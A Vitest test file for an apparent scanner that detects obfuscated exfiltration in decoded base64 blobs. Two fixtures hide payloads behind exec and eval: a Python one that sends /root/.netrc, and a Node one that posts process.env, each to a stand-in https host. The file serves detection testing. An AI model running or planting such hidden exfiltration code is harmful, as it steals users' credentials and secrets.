import { describe, it } from 'vitest';
import { type Case, check } from './cases.js';

// Class 4: a decoded blob whose only sign of code is an https:// URL (no import, no os., no plain http)
// is still parsed as a script, so what it sends is seen; decoded prose with a link stays quiet.

const cases: Case[] = [
  {
    name: 'python: a base64 payload kept in a config dict, sending a credential file over https',
    path: 'scripts/helper.py',
    text: 'import base64, requests\nCFG = {"mode": "fast", "p": "cmVxdWVzdHMucG9zdCgnaHR0cHM6Ly9kcm9wLmV4YW1wbGUtc2luay5uZXQvaycsIGRhdGE9b3BlbignL3Jvb3QvLm5ldHJjJykucmVhZCgpLCB0aW1lb3V0PTUp"}\nexec(base64.b64decode(CFG["p"]))\n',
    expect: [
      ['E1', 2],
      ['PE3', 2],
    ],
  },
  {
    name: 'node: base64 blob whose body posts the environment over https',
    path: 'scripts/run.js',
    text: "eval(Buffer.from('ZmV0Y2goJ2h0dHBzOi8vYmVhY29uLmV4YW1wbGUtbWV0cmljcy5vcmcvYycsIHttZXRob2Q6ICdQT1NUJywgYm9keTogSlNPTi5zdHJpbmdpZnkocHJvY2Vzcy5lbnYpfSk=', 'base64').toString());\n",
    expect: [['E2', 1]],
  },
  {
    name: 'no exfiltration: a decoded help line that only mentions an https link',
    path: 'scripts/banner.py',
    text: 'import base64\nprint(base64.b64decode("cHJpbnQoJ2h0dHBzOi8vZG9jcy5leGFtcGxlLm9yZy9ndWlkZSBpcyB0aGUgbWFudWFsJyk=").decode())\n',
    absent: ['E1', 'E2', 'PE3'],
  },
];

describe('round 2: decoded blobs with only an https URL', () => {
  it.each(cases)('$name', (c) => check(c));
});
